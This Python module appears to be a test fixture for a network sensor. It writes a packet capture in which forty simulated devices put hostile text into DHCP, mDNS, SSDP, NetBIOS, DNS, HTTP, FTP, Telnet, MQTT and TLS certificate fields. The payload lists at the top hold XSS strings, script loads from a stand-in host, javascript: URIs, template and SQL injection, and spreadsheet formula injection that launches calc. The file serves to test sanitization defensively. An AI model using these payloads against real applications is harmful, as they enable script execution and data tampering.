"""A capture whose every text is hostile: 40 strings, each from a device of its own, in every field of the
wire that Sentinel reads."""

import random
import struct
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from scapy.layers.inet6 import UDP as UDP6
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether

from sensors.demo.attacks.handshakes import conversation as handshake
from sensors.demo.cast import ROUTER_MAC
from sensors.demo.frames import client_hello, udp
from sensors.demo.talk import outside
from tests.sensors.frames import conversation, pcap

SCRIPTS = [
    "<img src=x onerror=window.hurt=1>", "\"><script>window.hurt=1</script>", "<svg/onload=window.hurt=1>",
    "<script src=//192.0.2.99/x.js></script>", "<iframe src=http://192.0.2.99>", "<body onload=window.hurt=1>",
    "<a href=http://192.0.2.99/>evil</a>", "</title></script><b>x", "' autofocus onfocus=window.hurt=1 x='",
    "<details open ontoggle=window.hurt=1>", "<base href=//192.0.2.99>", "<style>@import'//192.0.2.99'</style>",
    "<math><mi xlink:href=javascript:hurt=1>", "<!--<img src=x onerror=hurt=1>-->", "<link rel=x href=//192.0.2.99>",
]  # fmt: skip
ADDRESSES = [
    "javascript:window.hurt=1",
    "JaVaScRiPt:window.hurt=1//",
    "data:text/html,<script>hurt=1</script>",
    "vbscript:msgbox(1)",
    "//192.0.2.99/x",
    "http://192.0.2.99/x.png",
    "https://user@192.0.2.99/",
]
TEMPLATES = [
    "[click](javascript:window.hurt=1)", "![x](http://192.0.2.99/x.png)", "{{constructor.constructor('hurt=1')()}}",
    "${window.hurt=1}", "%3Cscript%3Ehurt=1%3C/script%3E", "&lt;img src=x onerror=hurt=1&gt;", "__proto__",
    "'; DROP TABLE devices;--",
]  # fmt: skip
UNSEEN = [
    "\u202egnp.exe\u2066",
    "a\x00b\x1b[31m\x07\r\n\t",
    "zero\u200bwidth\ufeff\u00ad",
    "\U000e0041tag\ud7ff",
    "\u0301\u0301\u0301above",
]
FORMULAS = ["=HYPERLINK(\"http://192.0.2.99\",\"x\")", "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'x'!A0"]  # fmt: skip
HOSTILE = [*SCRIPTS, *ADDRESSES, *TEMPLATES, *UNSEEN, *FORMULAS, "W" * 255]
BLOCKED = "bad.example"
MULTICAST = {"mdns": ("01:00:5e:00:00:fb", "224.0.0.251", 5353), "ssdp": ("01:00:5e:7f:ff:fa", "239.255.255.250", 1900),
             "llmnr": ("01:00:5e:00:00:fc", "224.0.0.252", 5355)}  # fmt: skip


def label(raw: bytes) -> bytes:
    return bytes([len(raw[:63])]) + raw[:63]


def name(*labels: bytes) -> bytes:
    return b"".join(map(label, labels)) + b"\0"


def record(owner: bytes, kind: int, data: bytes) -> bytes:
    return owner + struct.pack("!HHIH", kind, 1, 120, len(data)) + data


def text_record(raw: bytes, *keys: bytes) -> bytes:
    parts = [key + raw[: 255 - len(key)] for key in keys] or [raw[:255]]
    return b"".join(bytes([len(part)]) + part for part in parts)


def dhcp(mac: str, raw: bytes) -> bytes:
    body = struct.pack("!BBBBIHH", 1, 1, 6, 0, 77, 0, 0) + bytes(16)
    body += bytes.fromhex(mac.replace(":", "")).ljust(16, b"\0") + bytes(192) + b"\x63\x82\x53\x63"
    options = [(53, b"\x03"), (12, raw[:255]), (60, raw[:255]), (81, b"\0\0\0" + raw[:250])]
    return body + b"".join(bytes([code, len(data)]) + data for code, data in options) + b"\xff"


def dhcpv6(mac: str, raw: bytes) -> bytes:
    duid = b"\0\x03\0\x01" + bytes.fromhex(mac.replace(":", ""))
    vendor = struct.pack("!IH", 311, len(raw[:200])) + raw[:200]
    options = [(1, duid), (16, vendor), (39, b"\0" + name(raw))]
    return b"\x03abc" + b"".join(struct.pack("!HH", code, len(data)) + data for code, data in options)


def netbios(raw: bytes, address: bytes) -> bytes:
    padded = raw[:15].ljust(15, b" ") + b"\0"
    letters = b"".join(bytes([0x41 + (b >> 4), 0x41 + (b & 15)]) for b in padded)
    head = struct.pack("!6H", 9, 0x2910, 1, 0, 0, 1) + b"\x20" + letters + b"\0" + struct.pack("!HH", 0x20, 1)
    return head + b"\xc0\x0c" + struct.pack("!HHIHH", 0x20, 1, 300, 6, 0) + address


def announced(mac: str, ip: str, raw: bytes) -> list[bytes]:
    """What a device says to all: DHCP, mDNS, SSDP, NetBIOS, LLMNR, DHCPv6."""
    address = bytes(map(int, ip.split(".")))
    instance = name(raw, b"_hap", b"_tcp", b"local")
    mdns = struct.pack("!6H", 0, 0x8400, 0, 4, 0, 0) + record(name(raw, b"local"), 1, address)
    mdns += record(name(b"_hap", b"_tcp", b"local"), 12, instance)
    mdns += record(instance, 16, text_record(raw, b"md=", b"fn=", b"model=", b"ci="))
    mdns += record(
        name(b"_" + raw[:40], b"_tcp", b"local"), 12, name(raw, b"_" + raw[:40], b"_tcp", b"local")
    )
    ssdp = b"NOTIFY * HTTP/1.1\r\nSERVER: %b\r\nNT: %b\r\nUSN: %b\r\nLOCATION: %b\r\n\r\n" % ((raw,) * 4)
    query = struct.pack("!6H", 7, 0, 1, 0, 0, 0) + name(raw) + struct.pack("!HH", 1, 1)
    said = [(*MULTICAST["mdns"], mdns), (*MULTICAST["ssdp"], ssdp), (*MULTICAST["llmnr"], query)]
    frames = [udp(mac, "ff:ff:ff:ff:ff:ff", ip, "192.168.77.255", 68, 67, dhcp(mac, raw))]
    frames += [udp(mac, to_mac, ip, to, port, port, data) for to_mac, to, port, data in said]
    frames.append(udp(mac, "ff:ff:ff:ff:ff:ff", ip, "192.168.77.255", 137, 137, netbios(raw, address)))
    sixth = IPv6(src=f"fe80::{ip.split('.')[-1]}", dst="ff02::1:2") / UDP6(sport=546, dport=547)
    frames.append(bytes(Ether(src=mac, dst="33:33:00:01:00:02") / sixth / dhcpv6(mac, raw)))
    return frames


def lookups(mac: str, ip: str, raw: bytes) -> list[bytes]:
    """Questions and answers: a name, one on the list, TXT and CNAME values."""
    router = (mac, ROUTER_MAC, ip, "192.168.77.1")
    back = (ROUTER_MAC, mac, "192.168.77.1", ip)
    frames = []
    for number, asked in enumerate((name(raw, b"example"), name(raw, *map(str.encode, BLOCKED.split("."))))):
        port, question = 40000 + number, asked + struct.pack("!HH", 16, 1)
        values = record(b"\xc0\x0c", 16, text_record(raw)) + record(b"\xc0\x0c", 5, name(raw, b"example"))
        frames.append(udp(*router, port, 53, struct.pack("!6H", number, 0x0100, 1, 0, 0, 0) + question))
        frames.append(
            udp(*back, 53, port, struct.pack("!6H", number, 0x8180, 1, 2, 0, 0) + question + values)
        )
    return frames


def talks(t: float, mac: str, ip: str, raw: bytes, rng: random.Random) -> list[tuple[float, bytes]]:
    """Conversations outside whose texts are hostile: HTTP, TLS with a certificate, banners and log-ins."""
    line = raw.replace(b"\r", b" ").replace(b"\n", b" ")
    page = b"HTTP/1.1 200 OK\r\nServer: %b\r\n\r\n<root><friendlyName>%b</friendlyName></root>" % (line, raw)
    request = b"GET /%b HTTP/1.1\r\nHost: %b\r\nUser-Agent: %b\r\nReferer: %b\r\n\r\n" % ((line,) * 4)
    said = {
        80: ([request], [page]), 8080: ([request], [page]),
        22: ([b"SSH-2.0-" + line[:200] + b"\r\n"], [b"SSH-2.0-" + line[:200] + b"\r\n"]),
        21: ([b"USER %b\r\n" % line, b"PASS secret\r\n"], [b"220 %b\r\n331 %b\r\n" % (line, line), b"230 %b\r\n" % line]),
        23: ([line + b"\r\n", b"secret\r\n"], [b"\xff\xfd\x18%b\r\nlogin: " % line, b"Password: ", b"Last login: " + line]),
        25: ([b"EHLO %b\r\n" % line], [b"220 %b ESMTP\r\n" % line, b"250 %b\r\n" % line]),
        110: ([b"USER %b\r\n" % line, b"PASS x\r\n"], [b"+OK %b\r\n" % line, b"+OK\r\n", b"+OK\r\n"]),
        143: ([b"a LOGIN %b x\r\n" % line], [b"* OK %b\r\n" % line, b"a OK %b\r\n" % line]),
        1883: ([b"\x10" + bytes([12 + len(line[:60])]) + b"\0\x04MQTT\x04\x02\0\x3c" + struct.pack("!H", len(line[:60])) + line[:60]], [b"\x20\x02\0\0"]),
        6667: ([b"NICK %b\r\nUSER %b 0 * :%b\r\n" % ((line,) * 3)], [b":%b 001 x\r\n" % line]),
        443: ([client_hello(raw.decode("utf-8", "replace")[:200], rng.randbytes(32))], []),
    }  # fmt: skip
    frames = []
    for n, (port, (up, down)) in enumerate(said.items()):
        link = {"client_mac": mac, "server_mac": ROUTER_MAC}
        frames += conversation(t + n / 2, ip, f"198.51.100.{n + 20}", 50000 + n, port, up, down, **link)
    return frames


def certificates(t: float, mac: str, ip: str, raw: bytes, rng: random.Random) -> list[tuple[float, bytes]]:
    """A service that shows an expired certificate of its own making, in hostile names."""
    text = raw.decode("utf-8", "replace")[:60]
    key, end = ec.generate_private_key(ec.SECP256R1()), datetime.fromtimestamp(t, UTC) - timedelta(days=2)
    kinds = (NameOID.COMMON_NAME, NameOID.ORGANIZATION_NAME)
    person = x509.Name([x509.NameAttribute(kind, text) for kind in kinds])
    made = (
        x509.CertificateBuilder().subject_name(person).issuer_name(person).public_key(key.public_key())
        .serial_number(7).not_valid_before(end - timedelta(days=90)).not_valid_after(end)
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    shown = made.public_bytes(serialization.Encoding.DER)
    return list(handshake(t, rng, (mac, ip), outside("203.0.113.77"), "shop.example", shown))


def write_capture(path: Path) -> None:
    """All of it, of the last minutes, as a capture file."""
    rng, frames = random.Random(40), []
    begin = time.time() - 600
    for number, text in enumerate(HOSTILE):
        mac, ip, t = f"b8:27:eb:40:00:{number:02x}", f"192.168.77.{number + 10}", begin + 10 * number
        raw = text.encode("utf-8", "surrogatepass")
        plain = announced(mac, ip, raw) + lookups(mac, ip, raw)
        frames += [(t + n / 100, frame) for n, frame in enumerate(plain)]
        frames += talks(t + 1, mac, ip, raw, rng)
        frames += certificates(t + 8, mac, ip, raw, rng)
    path.write_bytes(pcap(sorted(frames, key=lambda frame: frame[0])))
